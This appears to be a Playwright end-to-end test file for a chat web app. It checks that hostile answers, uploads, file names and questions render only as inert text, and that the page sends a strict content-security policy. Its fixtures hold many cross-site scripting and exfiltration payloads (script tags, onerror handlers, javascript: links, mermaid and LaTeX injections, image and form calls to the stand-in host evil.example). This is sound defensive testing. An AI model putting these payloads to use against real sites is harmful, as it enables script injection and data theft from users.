"""Nothing leaves by being shown: hostile answers, files and names run nothing and ask no other host for anything."""

import pytest
from playwright.async_api import Page, expect

from tests.e2e.asking import answered, ask, attach, message, ready
from tests.e2e.conftest import OpenPage, Watch
from tests.providers import OpenAIServer
from tests.support import Person

pytestmark = pytest.mark.e2e

EVIL = "https://evil.example"
ANSWER = f"""
<script>window.hacked = 1</script> <img src="{EVIL}/a.png" onerror="window.hacked = 2">

<svg onload="window.hacked = 3"><image href="{EVIL}/b.svg" /></svg>

<style>body {{ background: url({EVIL}/c.png) }}</style> <link rel="stylesheet" href="{EVIL}/d.css">

<form action="{EVIL}/e"><input name="q" value="secret"><button>Go</button></form>

<iframe src="{EVIL}/f"></iframe> <meta http-equiv="refresh" content="0; url={EVIL}/g"> <base href="{EVIL}/">

![picture]({EVIL}/h.png?secret=1) ![by reference][ref] [by name][ref] <{EVIL}/auto> {EVIL}/bare

[script](javascript:window.hacked=4) [coded](java&#115;cript:window.hacked=5) [data](data:text/html,x) [file](file:///etc)

[1]: {EVIL}/i
[ref]: {EVIL}/j.png "title"

$\\href{{javascript:window.hacked=6}}{{x}} \\includegraphics{{{EVIL}/k.png}} \\url{{{EVIL}}}$

```mermaid
%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* {{ background: url({EVIL}/l.png) }}"}}}}%%
graph TD
  a["<img src='{EVIL}/m.png' onerror='window.hacked=7'>"] --> b
  click b href "javascript:window.hacked=8"
  classDef c fill:url({EVIL}/n.svg)
  class a c
```

```html
<script>window.hacked = 9</script>
```

The end.
"""


STRANGERS = """
() => [...document.querySelectorAll("*")].filter((element) =>
  // A link leads nowhere until somebody presses it and agrees to its host.
  !element.matches("a[href^='https:'][target=_blank][rel='noopener noreferrer nofollow']") &&
  (
  element.matches("iframe, form[action], base, meta[http-equiv], object, embed") ||
  [...element.attributes].some(({ name }) => name.startsWith("on")) ||
  [element.src, element.href].some((address) => {
    if (typeof address !== "string" || address === "") return false;
    const url = new URL(address, location.href);
    return url.protocol !== "blob:" && url.origin !== location.origin;
  }))
).map((element) => element.outerHTML)
"""


async def unharmed(page: Page) -> None:
    """Check that no script of a stranger has run, and that nothing of a stranger is in the document."""
    assert await page.evaluate("window.hacked") is None
    assert await page.evaluate(STRANGERS) == []


async def test_a_hostile_answer_is_only_text(
    open_page: OpenPage, anna: Person, openai: OpenAIServer, watch: Watch
) -> None:
    page = await open_page(anna)
    openai.script(reply=ANSWER)
    await ask(page, "Show me")
    answer = await answered(page)
    await expect(answer).to_contain_text("The end.")
    await expect(answer.locator(".katex")).to_have_count(1)
    await expect(answer.locator(".md-diagram img, .md-note")).to_have_count(1)
    await unharmed(page)
    await page.reload()
    await expect(await answered(page)).to_contain_text("The end.")
    await unharmed(page)
    assert watch.strangers == []


async def test_a_link_shows_its_address_before_it_opens(
    open_page: OpenPage, anna: Person, openai: OpenAIServer, watch: Watch
) -> None:
    page = await open_page(anna)
    openai.script(reply=f"See [the manual]({EVIL}/manual?a=1&b=2).")
    await ask(page, "Where?")
    answer = await answered(page)
    await answer.get_by_role("link", name="the manual").click()
    notice = page.get_by_role("dialog", name="Leave this page?")
    await expect(notice).to_contain_text(f"{EVIL}/manual?a=1&b=2")
    await notice.get_by_role("button", name="Cancel").click()
    await expect(notice).to_have_count(0)


async def test_a_hostile_file_and_its_name_are_only_text(
    open_page: OpenPage, anna: Person, openai: OpenAIServer
) -> None:
    page = await open_page(anna)
    name = '<img src=x onerror="window.hacked=1">.html'
    content = f"<html><body><p>The secret word is llama.</p><script>window.hacked=2</script><img src='{EVIL}/o'></body>"
    await attach(page, name, content.encode(), "text/html")
    await ready(page, "onerror")
    openai.script(reply="The word is llama [1].")
    await ask(page, "What is the secret word?")
    answer = await answered(page)
    await answer.get_by_role("button", name="Source 1", exact=True).hover()
    await answer.get_by_role("button", name="Source 1", exact=True).click()
    document = page.get_by_role("complementary", name="Document")
    await expect(document.locator("mark")).to_contain_text("secret word")
    await unharmed(page)


async def test_a_hostile_question_is_only_text(open_page: OpenPage, anna: Person, openai: OpenAIServer) -> None:
    page = await open_page(anna)
    openai.script(reply="No.")
    await ask(page, f"<img src={EVIL}/p onerror=window.hacked=1> ![x]({EVIL}/q)")
    await answered(page)
    await expect(page.get_by_role("article", name="You")).to_contain_text("onerror")
    await unharmed(page)
    await expect(message(page)).to_have_value("")


@pytest.mark.parametrize("text", [">" * 4000 + " x", "- " * 4000 + "x", "$$" + "{" * 8000 + "x" + "}" * 8000 + "$$"])
async def test_what_can_not_be_drawn_stays_text_and_takes_nothing_else(
    open_page: OpenPage, anna: Person, openai: OpenAIServer, text: str
) -> None:
    openai.script(reply="Yes.")
    asked = await anna.ask(text)
    page = await open_page(anna, path=f"/c/{asked['conversation_id']}")
    await expect(page.get_by_role("article", name="You")).to_contain_text(text[:100])
    await expect(page.get_by_role("article", name="Answer")).to_contain_text("Yes.")


async def test_the_page_forbids_what_it_does_not_need(open_page: OpenPage, anna: Person) -> None:
    page = await open_page(anna)
    answer = await page.goto("/")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    for rule in ("default-src 'none'", "connect-src 'self'", "form-action 'self'", "frame-ancestors 'none'"):
        assert rule in policy
    scripts = next(rule for rule in policy.split(";") if rule.strip().startswith("script-src"))
    assert "unsafe-inline" not in scripts
    assert "'unsafe-eval'" not in scripts
